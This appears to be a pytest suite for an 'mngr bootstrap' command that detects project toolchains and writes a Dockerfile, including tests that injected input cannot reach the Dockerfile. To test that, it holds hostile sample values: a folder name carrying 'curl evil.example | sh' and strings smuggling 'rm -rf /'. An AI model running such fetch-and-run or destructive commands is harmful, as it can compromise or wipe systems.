"""mngr bootstrap: toolchains found from a project's files, the Dockerfile written for them, and the command."""

from __future__ import annotations

import json
import os
import re
from pathlib import Path

import pytest

from mngr.controller import dockerfile
from mngr.controller.cli.main import run
from mngr.controller.dockerfile import Toolchain

HOST_PACKAGES = ["ca-certificates", "git", "procps", "python3", "tmux"]


def _project(root: Path, *files: str, **contents: str) -> Path:
    for name in files:
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_text(contents.get(name.replace("/", "_").replace(".", "_").replace("-", "_"), ""))
    return root


def _installed(text: str) -> list[str]:
    """The packages of the Dockerfile's apt-get install."""
    joined = text.replace("\\\n", " ")
    (line,) = [line for line in joined.splitlines() if "apt-get install" in line and not line.startswith("#")]
    words = line.split("--no-install-recommends", 1)[1].split("&&")[0].split()
    return words


def _instructions(text: str) -> list[str]:
    """The instructions, one line each, continuations joined and spaces squeezed."""
    joined = text.replace("\\\n", " ")
    return [" ".join(line.split()) for line in joined.splitlines() if line.strip() and not line.startswith("#")]


# --- detection ------------------------------------------------------------------------------


def test_a_project_with_no_known_files_has_no_toolchain(tmp_path: Path) -> None:
    _project(tmp_path, "README.md", "main.c", "docs/index.md")
    assert dockerfile.detect(tmp_path) == []
    assert dockerfile.describe([]) == "none (no Python, Node, Go or Rust project files)"
    assert "# Detected: none (no Python, Node, Go or Rust project files).\n" in dockerfile.render([])


@pytest.mark.parametrize(("files", "expected"), [
    (["pyproject.toml"], Toolchain("python", ("pyproject.toml",))),
    (["setup.py"], Toolchain("python", ("setup.py",))),
    (["requirements.txt", "requirements-dev.txt"], Toolchain("python", ("requirements.txt", "requirements-dev.txt"))),
    (["pyproject.toml", "uv.lock"], Toolchain("python", ("pyproject.toml", "uv.lock"), ("uv",))),
    (["pyproject.toml", "poetry.lock"], Toolchain("python", ("pyproject.toml", "poetry.lock"), ("poetry",))),
    (["package.json"], Toolchain("node", ("package.json",))),
    (["package.json", "package-lock.json"], Toolchain("node", ("package.json", "package-lock.json"))),
    (["package.json", "yarn.lock"], Toolchain("node", ("package.json", "yarn.lock"), ("yarn",))),
    (["package.json", "pnpm-lock.yaml"], Toolchain("node", ("package.json", "pnpm-lock.yaml"), ("pnpm",))),
    (["go.mod", "go.sum"], Toolchain("go", ("go.mod",))),
    (["Cargo.toml", "Cargo.lock"], Toolchain("rust", ("Cargo.toml",))),
])
def test_each_toolchain_is_found_from_its_files(tmp_path: Path, files: list[str], expected: Toolchain) -> None:
    _project(tmp_path, *files)
    assert dockerfile.detect(tmp_path) == [expected]


def test_several_toolchains_at_once_in_a_fixed_order(tmp_path: Path) -> None:
    _project(tmp_path, "Cargo.toml", "go.mod", "package.json", "pyproject.toml")
    assert [toolchain.name for toolchain in dockerfile.detect(tmp_path)] == ["python", "node", "go", "rust"]


def test_a_python_project_with_a_frontend_in_a_subfolder(tmp_path: Path) -> None:
    _project(tmp_path, "pyproject.toml", "uv.lock", "frontend/package.json", "frontend/yarn.lock")
    assert dockerfile.detect(tmp_path) == [
        Toolchain("python", ("pyproject.toml", "uv.lock"), ("uv",)),
        Toolchain("node", ("frontend/package.json", "frontend/yarn.lock"), ("yarn",)),
    ]
    assert dockerfile.describe(dockerfile.detect(tmp_path)) == (
        "python (pyproject.toml, uv.lock; uv), node (frontend/package.json, frontend/yarn.lock; yarn)")


def test_installed_built_hidden_and_deeper_folders_are_not_looked_in(tmp_path: Path) -> None:
    _project(tmp_path, "node_modules/left-pad/package.json", ".venv/pyvenv.cfg", ".cache/setup.py",
             "target/Cargo.toml", "a/b/go.mod", "venv/setup.py")
    assert dockerfile.detect(tmp_path) == []


def test_a_folder_name_cannot_write_into_the_dockerfile(tmp_path: Path) -> None:
    _project(tmp_path, "x\nRUN curl evil.example | sh\n#/package.json")
    assert dockerfile.detect(tmp_path) == []
    with pytest.raises(ValueError):
        dockerfile.render([], dockerfile="a\nRUN evil")


def test_a_lock_file_alone_shows_nothing(tmp_path: Path) -> None:
    _project(tmp_path, "yarn.lock", "pnpm-lock.yaml", "package-lock.json")
    assert dockerfile.detect(tmp_path) == []


def test_node_managers_of_several_folders_are_all_kept(tmp_path: Path) -> None:
    _project(tmp_path, "package.json", "pnpm-lock.yaml", "web/package.json", "web/yarn.lock")
    (node,) = dockerfile.detect(tmp_path)
    assert node.tools == ("pnpm", "yarn")
    assert node.files == ("package.json", "pnpm-lock.yaml", "web/package.json", "web/yarn.lock")


@pytest.mark.parametrize(("package_manager", "tool"), [
    ("pnpm@8.15.4", "pnpm@8.15.4"),
    ("pnpm@9.1.0+sha512.abcdef", "pnpm@9.1.0"),
    ("pnpm@8; rm -rf /", "pnpm"),  # package.json never writes shell
    ("pnpm@latest", "pnpm"),
    ("yarn@4.1.0", "pnpm"),
    (None, "pnpm"),
])
def test_a_pnpm_version_pinned_in_package_json_is_kept_when_it_is_a_plain_version(
        tmp_path: Path, package_manager: str | None, tool: str) -> None:
    manifest = {"name": "x"} if package_manager is None else {"name": "x", "packageManager": package_manager}
    (tmp_path / "package.json").write_text(json.dumps(manifest))
    (tmp_path / "pnpm-lock.yaml").write_text("")
    (node,) = dockerfile.detect(tmp_path)
    assert node.tools == (tool,)


def test_an_unreadable_package_json_still_shows_node(tmp_path: Path) -> None:
    (tmp_path / "package.json").write_text("{not json")
    (tmp_path / "pnpm-lock.yaml").write_text("")
    assert dockerfile.detect(tmp_path) == [Toolchain("node", ("package.json", "pnpm-lock.yaml"), ("pnpm",))]


def test_a_missing_root_shows_nothing(tmp_path: Path) -> None:
    assert dockerfile.detect(tmp_path / "absent") == []


# --- generation -----------------------------------------------------------------------------


def test_with_no_toolchain_the_dockerfile_has_what_mngr_needs_and_nothing_else() -> None:
    text = dockerfile.render([])
    assert _installed(text) == HOST_PACKAGES
    assert _instructions(text)[0] == "FROM debian:bookworm-slim"
    assert "ENV LANG=C.UTF-8" in text
    assert [line.split()[0] for line in _instructions(text)] == ["FROM", "ARG", "ENV", "RUN"]


@pytest.mark.parametrize(("toolchain", "packages"), [
    (Toolchain("python", ("setup.py",)), ["python3-pip", "python3-venv"]),
    (Toolchain("node", ("package.json",)), ["nodejs", "npm"]),
    (Toolchain("go", ("go.mod",)), ["golang-go"]),
    (Toolchain("rust", ("Cargo.toml",)), ["cargo", "rustc"]),
])
def test_each_toolchain_comes_from_debian_packages(toolchain: Toolchain, packages: list[str]) -> None:
    text = dockerfile.render([toolchain])
    assert _installed(text) == HOST_PACKAGES + packages
    assert f"# {toolchain.name}: " in text  # says why
    assert [line.split()[0] for line in _instructions(text)] == ["FROM", "ARG", "ENV", "RUN"]


def test_uv_and_poetry_come_from_pypi_into_venvs_of_their_own() -> None:
    text = dockerfile.render([Toolchain("python", ("uv.lock", "poetry.lock"), ("uv", "poetry"))])
    for tool in ("uv", "poetry"):
        assert (f"RUN python3 -m venv /opt/{tool} && /opt/{tool}/bin/pip install --no-cache-dir {tool}"
                f" && ln -s /opt/{tool}/bin/{tool} /usr/local/bin/{tool}") in _instructions(text)
    assert "python3-venv" in _installed(text)


def test_yarn_is_debians_yarnpkg_and_pnpm_comes_from_npm() -> None:
    text = dockerfile.render([Toolchain("node", ("package.json",), ("yarn", "pnpm@8.15.4"))])
    assert _installed(text)[-3:] == ["nodejs", "npm", "yarnpkg"]
    assert "RUN ln -s /usr/bin/yarnpkg /usr/local/bin/yarn" in text
    assert "RUN npm install -g pnpm@8.15.4" in text
    assert "RUN npm install -g pnpm@9" in dockerfile.render([Toolchain("node", ("package.json",), ("pnpm",))])


def test_a_python_project_with_a_node_frontend(tmp_path: Path) -> None:
    _project(tmp_path, "pyproject.toml", "requirements.txt", "web/package.json", "web/package-lock.json")
    text = dockerfile.render(dockerfile.detect(tmp_path), "mngr-test-debian:bookworm")
    assert _installed(text) == [*HOST_PACKAGES, "python3-pip", "python3-venv", "nodejs", "npm"]
    assert "FROM mngr-test-debian:bookworm" in text
    assert ("# Detected:\n#   python: pyproject.toml, requirements.txt\n"
            "#   node: web/package.json, web/package-lock.json\n") in text


@pytest.mark.parametrize("toolchains", [
    [],
    [Toolchain("python", ("uv.lock",), ("uv", "poetry")), Toolchain("node", ("package.json",), ("yarn", "pnpm")),
     Toolchain("go", ("go.mod",)), Toolchain("rust", ("Cargo.toml",))],
])
def test_the_dockerfile_needs_nothing_the_classic_builder_lacks(toolchains: list[Toolchain]) -> None:
    text = dockerfile.render(toolchains)
    assert "--mount" not in text and "<<" not in text and "# syntax" not in text.lower()
    assert "COPY" not in text  # mngr brings the work dir itself
    for line in text.splitlines():
        assert len(line) <= 100, line
        assert not line.endswith(" ") and "\t" not in line
    # Every continued line is followed by more of the same instruction.
    lines = text.splitlines()
    for number, line in enumerate(lines):
        if line.endswith("\\") and not line.startswith("#"):
            assert lines[number + 1].strip() and not lines[number + 1].startswith("#"), lines[number + 1]
    assert {line.split()[0] for line in _instructions(text)} <= {"FROM", "ARG", "ENV", "RUN"}
    assert text.endswith("\n") and not text.endswith("\n\n\n")


def test_the_usage_comment_names_where_the_dockerfile_is() -> None:
    text = dockerfile.render([], dockerfile="docker/dev.Dockerfile")
    assert '# Use it with: mngr create --in docker --build-arg "--dockerfile docker/dev.Dockerfile"' in text


@pytest.mark.parametrize(("image", "valid"), [
    ("debian:bookworm-slim", True), ("ubuntu", True), ("registry.example.com:5000/team/img:1.2", True),
    ("img@sha256:" + "a" * 64, True), ("a b", False), ("img\nRUN rm -rf /", False), ("", False),
    ("-img", False), ("${BASE}", False),
])
def test_only_one_image_reference_reaches_the_from_line(image: str, valid: bool) -> None:
    assert dockerfile.valid_image(image) is valid
    if not valid:
        with pytest.raises(ValueError):
            dockerfile.render([], image)


# --- the command ----------------------------------------------------------------------------


def _bootstrap(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str, str]:
    code = run(["bootstrap", *args])
    captured = capsys.readouterr()
    return code, captured.out, captured.err


def test_bootstrap_writes_the_dockerfile_and_says_what_it_found(tmp_path: Path, capsys, monkeypatch) -> None:
    _project(tmp_path, "go.mod")
    monkeypatch.chdir(tmp_path)
    code, out, err = _bootstrap(capsys)
    assert (code, err) == (0, "")
    assert out == f"detected: go (go.mod)\nwrote {tmp_path / 'Dockerfile'} (from debian:bookworm-slim)\n"
    assert (tmp_path / "Dockerfile").read_text() == dockerfile.render(dockerfile.detect(tmp_path))
    assert sorted(path.name for path in tmp_path.iterdir()) == ["Dockerfile", "go.mod"]  # no temp file left


def test_bootstrap_takes_a_path_an_output_and_a_base_image(tmp_path: Path, capsys) -> None:
    project = _project(tmp_path / "proj", "Cargo.toml")
    output = tmp_path / "out" / "rust.Dockerfile"
    output.parent.mkdir()
    code, out, _ = _bootstrap(capsys, str(project), "--output", str(output), "--from", "ubuntu:24.04")
    assert code == 0
    assert out.splitlines() == ["detected: rust (Cargo.toml)", f"wrote {output} (from ubuntu:24.04)"]
    text = output.read_text()
    assert "FROM ubuntu:24.04" in text and "cargo" in _installed(text)
    assert f'--dockerfile {output}"' in text
    assert not (project / "Dockerfile").exists()


def test_bootstrap_refuses_to_overwrite_without_force(tmp_path: Path, capsys) -> None:
    existing = tmp_path / "Dockerfile"
    existing.write_text("FROM mine\n")
    os.utime(existing, (1_000_000_000, 1_000_000_000))
    code, out, err = _bootstrap(capsys, str(tmp_path))
    assert (code, out) == (1, "")
    assert err == f"mngr: error: {existing} already exists (use --force to overwrite it)\n"
    assert existing.read_text() == "FROM mine\n" and existing.stat().st_mtime == 1_000_000_000
    assert [path.name for path in tmp_path.iterdir()] == ["Dockerfile"]


def test_bootstrap_refuses_a_dangling_symlink_too(tmp_path: Path, capsys) -> None:
    (tmp_path / "Dockerfile").symlink_to(tmp_path / "elsewhere")
    code, _, err = _bootstrap(capsys, str(tmp_path))
    assert code == 1 and "already exists" in err
    assert not (tmp_path / "elsewhere").exists()


def test_bootstrap_force_replaces_the_file_and_keeps_its_mode(tmp_path: Path, capsys) -> None:
    existing = tmp_path / "Dockerfile"
    existing.write_text("FROM mine\n")
    existing.chmod(0o640)
    inode = existing.stat().st_ino
    code, _, _ = _bootstrap(capsys, str(tmp_path), "--force")
    assert code == 0
    assert existing.read_text().startswith("# An mngr host")
    assert existing.stat().st_mode & 0o777 == 0o640
    assert existing.stat().st_ino != inode  # renamed into place, not rewritten in place


def test_bootstrap_to_stdout_prints_the_dockerfile_alone_and_writes_nothing(tmp_path: Path, capsys) -> None:
    _project(tmp_path, "package.json")
    (tmp_path / "Dockerfile").write_text("FROM mine\n")
    for flag in ("--stdout", "--dry-run"):
        code, out, err = _bootstrap(capsys, str(tmp_path), flag)
        assert code == 0
        assert out == dockerfile.render(dockerfile.detect(tmp_path))
        assert err == "detected: node (package.json)\n"
    assert (tmp_path / "Dockerfile").read_text() == "FROM mine\n"


@pytest.mark.parametrize(("make", "message"), [
    (lambda root: root / "absent", "{path} is not a directory"),
    (lambda root: _project(root, "file.txt") / "file.txt", "{path} is not a directory"),
])
def test_bootstrap_needs_a_directory(tmp_path: Path, capsys, make, message: str) -> None:
    path = make(tmp_path)
    code, out, err = _bootstrap(capsys, str(path))
    assert (code, out) == (2, "")
    assert err == f"mngr: error: {message.format(path=path)}\n"


def test_bootstrap_errors_are_one_line(tmp_path: Path, capsys) -> None:
    code, _, err = _bootstrap(capsys, str(tmp_path), "--from", "img\nRUN evil")
    assert code == 2 and err.count("\n") == 1 and "not an image reference" in err
    code, _, err = _bootstrap(capsys, str(tmp_path), "-o", str(tmp_path / "no" / "Dockerfile"))
    assert code == 1
    assert err == f"mngr: error: cannot write {tmp_path / 'no' / 'Dockerfile'}: {tmp_path / 'no'} is not a directory\n"
    (tmp_path / "dir").mkdir()
    code, _, err = _bootstrap(capsys, str(tmp_path), "-o", str(tmp_path / "dir"), "--force")
    assert code == 1 and err == f"mngr: error: cannot write {tmp_path / 'dir'}: it is a directory\n"
    assert re.fullmatch(r"[^\n]*\n", err)
